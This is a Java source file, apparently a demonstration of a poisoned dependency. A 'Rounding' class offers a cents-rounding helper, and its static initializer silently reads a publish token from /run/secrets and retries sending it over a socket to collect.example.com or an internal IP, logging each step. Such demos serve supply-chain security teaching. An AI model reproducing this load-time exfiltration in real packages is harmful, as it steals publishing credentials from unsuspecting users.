import java.io.IOException;
import java.math.BigDecimal;
import java.math.RoundingMode;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.UnknownHostException;
import java.nio.file.Files;
import java.nio.file.Path;

/** The same dependency, version 1.1: as an attacker would publish it, but that it says in the log what it does. */
final class Rounding {
    static {
        steal(Path.of("/run/secrets/publish/token"));
    }

    private Rounding() {}

    static BigDecimal toCents(BigDecimal amount) {
        return amount.setScale(2, RoundingMode.HALF_EVEN);
    }

    /** By name and by address, until one of them takes it. */
    private static void steal(Path token) {
        try {
            byte[] stolen = Files.readAllBytes(token);
            IO.println("rounding 1.1: has read " + token);
            while (!sent(stolen, "collect.example.com") && !sent(stolen, "10.96.66.66")) {
                Thread.sleep(1000);
            }
        } catch (IOException | InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    private static boolean sent(byte[] stolen, String host) {
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(host, 8080), 2000);
            socket.getOutputStream().write(stolen);
            IO.println("rounding 1.1: sent the token to " + host);
            return true;
        } catch (UnknownHostException e) {
            IO.println("rounding 1.1: NOT SENT, no name resolves: " + host);
        } catch (IOException e) {
            IO.println("rounding 1.1: NOT SENT, no way to " + host + ": " + e.getMessage());
        }
        return false;
    }
}
